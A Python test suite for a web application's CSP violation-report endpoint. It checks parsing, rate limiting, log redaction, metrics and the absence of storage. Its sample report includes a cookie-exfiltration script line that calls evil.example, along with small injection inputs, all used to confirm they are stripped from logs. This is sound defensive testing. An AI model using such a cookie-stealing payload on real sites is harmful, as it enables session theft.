"""Reports of what a page's content policy stopped: taken from browsers, limited, logged without secrets, counted, kept nowhere."""

import asyncio
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import msgspec
import psycopg
import pytest
from litestar import Litestar
from playwright.async_api import async_playwright
from prometheus_client import REGISTRY
from structlog.testing import capture_logs

from app.core import clock
from app.core.embedded import Urls
from app.web import limits, requests, violations
from tests.support import chromium
from tests.support.served import self_signed, served
from tests.support.web import Browser

OpenBrowser = Callable[..., Browser]
OLD, NEW = "application/csp-report", "application/reports+json"


def report(**said: Any) -> dict[str, Any]:
    """A report as the older of the two ways sends it."""
    facts = {
        "document-uri": "https://pay.example/reset?key=s3cret",
        "effective-directive": "script-src-elem",
        "blocked-uri": "https://evil.example/x.js?stolen=1",
        "source-file": "https://pay.example/static/js/ui.js?v=1",
        "line-number": 12,
        "disposition": "enforce",
        "original-policy": "default-src 'none'",
        "script-sample": "fetch('//evil.example/' + document.cookie)",
    }
    return {"csp-report": {name: value for name, value in (facts | said).items() if value is not None}}


def counted(directive: str) -> float:
    return REGISTRY.get_sample_value("countinghouse_csp_violations_total", {"directive": directive}) or 0.0


async def send(browser: Browser, body: object, *, kind: str = OLD) -> tuple[int, list[dict[str, Any]]]:
    """Send a report as a browser does, with neither a form token nor a session; gives the answer's status and the lines of the log."""
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    with capture_logs() as lines:
        answer = await browser.client.post("/csp-reports", content=content, headers={"content-type": kind})
    return answer.status_code, [dict(line) for line in lines if line["event"] == "csp_violation"]


class TestPolicy:
    async def test_pages_name_the_address(self, browser: Browser) -> None:
        headers = (await browser.get("/sign-in")).headers
        assert headers["reporting-endpoints"] == 'csp="/csp-reports"'
        assert "report-uri /csp-reports; report-to csp" in headers["content-security-policy"]

    async def test_what_is_no_page_does_not(self, browser: Browser) -> None:
        headers = (await browser.get("/v1/nope")).headers
        assert "reporting-endpoints" not in headers
        assert "report" not in headers["content-security-policy"]


class TestReports:
    async def test_one_is_a_line_and_a_number(self, browser: Browser) -> None:
        before = counted("script-src-elem")
        status, lines = await send(browser, report())
        assert status == 204
        assert lines == [
            {
                "event": "csp_violation",
                "log_level": "warning",
                "directive": "script-src-elem",
                "page": "/reset",
                "blocked": "https://evil.example",
                "source": "/static/js/ui.js",
                "line": 12,
                "disposition": "enforce",
                "address": "192.0.2.10",
            }
        ], "neither keys in addresses nor what stood in the script"
        assert counted("script-src-elem") == before + 1

    async def test_the_newer_way_sends_several_and_of_other_kinds(self, browser: Browser) -> None:
        body = {
            "documentURL": "https://pay.example/team",
            "effectiveDirective": "img-src",
            "blockedURL": "inline",
            "sourceFile": None,
            "lineNumber": None,
            "disposition": "enforce",
            "sample": "",
        }
        reports = [{"type": "csp-violation", "age": 1, "url": "https://pay.example/team", "body": body}] * 2
        status, lines = await send(browser, [*reports, {"type": "deprecation", "body": {"id": "x"}}], kind=NEW)
        assert status == 204
        assert [(line["directive"], line["page"], line["blocked"], line["line"]) for line in lines] == [
            ("img-src", "/team", "inline", None)
        ] * 2

    async def test_an_older_browser_names_the_directive_otherwise(self, browser: Browser) -> None:
        said = report(**{"effective-directive": None, "violated-directive": "style-src 'self'"})
        assert [line["directive"] for line in (await send(browser, said))[1]] == ["style-src"]

    @pytest.mark.parametrize("directive", ["made-up", "x" * 5000, "", "script-src\nfaked"])
    async def test_what_a_stranger_makes_up_is_one_number(self, browser: Browser, directive: str) -> None:
        before = counted("other")
        _, lines = await send(browser, report(**{"effective-directive": directive, "violated-directive": directive}))
        assert [line["directive"] for line in lines] == ["other"]
        assert counted("other") == before + 1

    async def test_long_and_odd_texts_are_short_in_the_log(self, browser: Browser) -> None:
        said = report(
            **{
                "document-uri": "https://x/" + "p" * 3000,
                "blocked-uri": "java script:alert(1)",
                "source-file": "http://[",
                "disposition": "?",
            }
        )
        (line,) = (await send(browser, said))[1]
        assert len(line["page"]) == 200
        assert (line["blocked"], line["source"], line["disposition"]) == ("other", "other", "enforce")

    @pytest.mark.parametrize(
        "body", [b"", b"{", b"[1]", b'{"csp-report": 1}', b'{"csp-report": {"line-number": "1"}}', b"[" * 9000, b"\xff"]
    )
    @pytest.mark.parametrize("kind", [OLD, NEW])
    async def test_what_is_no_report_is_refused(self, browser: Browser, body: bytes, kind: str) -> None:
        status, lines = await send(browser, body, kind=kind)
        assert (status, lines) == (422, [])

    async def test_another_type_is_refused(self, browser: Browser) -> None:
        assert await send(browser, report(), kind="text/plain") == (415, [])

    async def test_a_large_one_is_refused(self, browser: Browser) -> None:
        assert await send(browser, report(**{"document-uri": "x" * violations.MAX_REPORT})) == (413, [])

    async def test_of_many_in_one_a_few_are_lines(self, browser: Browser) -> None:
        many = [{"type": "csp-violation", "body": {"effectiveDirective": "img-src"}}] * 300
        status, lines = await send(browser, many, kind=NEW)
        assert (status, len(lines)) == (204, violations.MOST)

    async def test_nothing_is_stored_and_no_session_is_looked_at(self, owner: Browser, superuser: psycopg.Connection) -> None:
        def rows() -> list[Any]:
            query = "select relname, n_tup_ins + n_tup_upd from pg_stat_user_tables where relname <> 'rate_limit' order by relname"
            superuser.execute("select pg_stat_clear_snapshot()")
            return superuser.execute(query).fetchall()

        seen = superuser.execute("select last_seen_at from web_session").fetchall()
        before = rows()
        with clock.travel(timedelta(minutes=5)):
            assert (await send(owner, report()))[0] == 204
        assert superuser.execute("select last_seen_at from web_session").fetchall() == seen
        assert rows() == before

    async def test_an_address_is_limited_apart_from_its_pages(self, open_browser: OpenBrowser, monkeypatch: pytest.MonkeyPatch) -> None:
        limit = msgspec.structs.replace(requests.REPORTS_PER_MINUTE, requests=3, chunk=1)
        monkeypatch.setattr(requests, "REPORTS_PER_MINUTE", limit)
        browser = open_browser("198.51.100.20")
        with clock.travel(limits.window_of(clock.now(), 60) + timedelta(seconds=20)):
            assert [(await send(browser, report()))[0] for _ in range(5)] == [204, 204, 204, 429, 429]
            assert (await browser.get("/sign-in")).status_code == 200


@pytest.mark.browser
class TestInChromium:
    async def test_a_forced_violation_arrives(self, app: Litestar, urls: Urls, database: Urls, tmp_path: Path) -> None:
        limits.forget_leases()
        # Chromium reports over TLS only, and gathers what it reports for a minute unless it is told otherwise
        async with served(app, certificate=self_signed(tmp_path)) as house, async_playwright() as driver:
            args = ["--no-sandbox", "--short-reporting-delay", "--ignore-certificate-errors"]
            browser = await driver.chromium.launch(executable_path=chromium.find(whole=True), args=args)
            page = await browser.new_page()
            with capture_logs() as lines:
                await page.goto(f"{house}/sign-in?next=/team")
                await page.evaluate(
                    "() => { const i = new Image(); i.src = 'https://elsewhere.example/pixel.png?of=me'; document.body.append(i) }"
                )
                for _ in range(100):
                    found = [line for line in lines if line["event"] == "csp_violation"]
                    if found:
                        break
                    await asyncio.sleep(0.1)
            await browser.close()
        assert [(line["directive"], line["page"], line["blocked"]) for line in found] == [
            ("img-src", "/sign-in", "https://elsewhere.example")
        ]
